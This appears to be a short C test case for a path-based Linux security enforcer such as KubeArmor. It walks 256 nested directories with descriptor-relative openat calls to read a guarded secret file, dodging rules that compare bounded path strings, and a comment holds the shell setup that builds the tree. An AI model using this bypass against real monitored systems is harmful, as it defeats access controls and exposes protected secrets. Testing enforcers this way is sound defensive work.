// tries: to read a file 256 folders down a forbidden place
// works: paths are walked to any depth by descriptors
// see: CVE-2025-11001 and kin (limits on depth); KubeArmor compares bounded paths
// goal: read
// first: cd "$GUARDED"; for i in $(seq 256); do mkdir d; cd -P d; done; cp "$SECRET" here; chown 1000 here; cd "$GUARDED"; chown -R 1000:1000 d
#include "../kit.h"

int main(void)
{
	int at = MUST(open(told("GUARDED"), O_PATH));

	for (int i = 0; i < 256; i++) {
		int next = MUST(openat(at, "d", O_PATH));
		close(at);
		at = next;
	}
	return print_from(MUST(openat(at, "here", O_RDONLY)));
}
